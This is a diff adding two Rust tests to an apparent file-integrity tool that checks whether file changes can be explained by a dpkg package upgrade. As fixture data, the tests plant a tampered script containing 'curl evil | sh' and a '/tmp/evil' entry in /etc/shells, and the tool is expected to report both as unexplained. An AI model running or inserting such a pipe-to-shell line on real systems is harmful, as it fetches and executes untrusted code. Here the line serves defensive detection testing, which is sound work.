@@ -178,6 +178,65 @@ fn a_change_by_hand_during_the_upgrade_window_is_unexplained() {
 }
 
 #[test]
+fn a_file_no_package_owns_changed_during_an_upgrade_names_the_operation_but_is_not_verified() {
+    let (fx, ws, second) = dpkg_fixture(AttributionMode::Report);
+    fx.write("/etc/shells", "/bin/sh\n");
+    fx.detect(&ws);
+    dpkg(fx.host.path(), &["-i", second.to_str().unwrap()]);
+    // What a maintainer script does, and what anyone else could do at that moment.
+    fx.write("/etc/shells", "/bin/sh\n/usr/bin/kfdemo\n");
+    let changes = fx.detect(&ws);
+    let shells = only_change(&changes, "/etc/shells");
+    let attribution = shells.attribution.as_ref().expect("the operation is named");
+    assert_eq!(attribution.kind, AttributionKind::OperationUnverified);
+    assert_eq!(attribution.manager, Some(PackageManager::Dpkg));
+    assert_eq!(attribution.package.as_deref(), Some("kfdemo"));
+    assert_eq!(
+        (
+            attribution.from_version.as_deref(),
+            attribution.to_version.as_deref()
+        ),
+        (Some("1.0"), Some("2.0"))
+    );
+    assert_eq!(attribution.operated_packages, ["kfdemo"]);
+    assert!(!attribution.digest_verified, "nothing vouches for it");
+    assert_eq!(unexplained(&changes), [], "{:#?}", paths(&changes));
+
+    // With no operation in the window, the same change is unexplained.
+    fx.write("/etc/shells", "/bin/sh\n/tmp/evil\n");
+    let changes = fx.detect(&ws);
+    assert!(only_change(&changes, "/etc/shells").attribution.is_none());
+}
+
+#[test]
+fn operation_unverified_changes_are_their_own_report_and_never_taken_by_an_owned_file() {
+    let (fx, ws, second) = dpkg_fixture(AttributionMode::Summarize);
+    dpkg(fx.host.path(), &["-i", second.to_str().unwrap()]);
+    fx.write("/etc/ld.so.cache", "rebuilt by the trigger");
+    // Owned by kfdemo, and not what dpkg recorded: unexplained, not "during the operation".
+    fx.write("/usr/bin/kfhelper", "#!/bin/sh\ncurl evil | sh\n");
+    let changes = fx.detect(&ws);
+    assert_eq!(unexplained_paths(&changes), ["/usr/bin/kfhelper"]);
+    let kinds: Vec<AttributionKind> = reports(&changes)
+        .iter()
+        .map(|r| r.attribution.as_ref().unwrap().kind)
+        .collect();
+    assert_eq!(kinds.len(), 2, "{:#?}", paths(&changes));
+    assert!(
+        kinds.contains(&AttributionKind::Package) && kinds.contains(&AttributionKind::OperationUnverified)
+    );
+    let unverified = reports(&changes)
+        .into_iter()
+        .find(|r| r.attribution.as_ref().unwrap().kind == AttributionKind::OperationUnverified)
+        .unwrap();
+    assert_eq!(
+        unverified.aggregated.as_ref().unwrap().sample_paths,
+        ["/etc/ld.so.cache"]
+    );
+    assert!(!unverified.attribution.as_ref().unwrap().digest_verified);
+}
+
+#[test]
 fn a_binary_and_its_md5sums_line_rewritten_by_hand_are_unexplained() {
     let (fx, ws, _) = dpkg_fixture(AttributionMode::Summarize);
     let trojan = "#!/bin/sh\ncurl evil | sh\n";
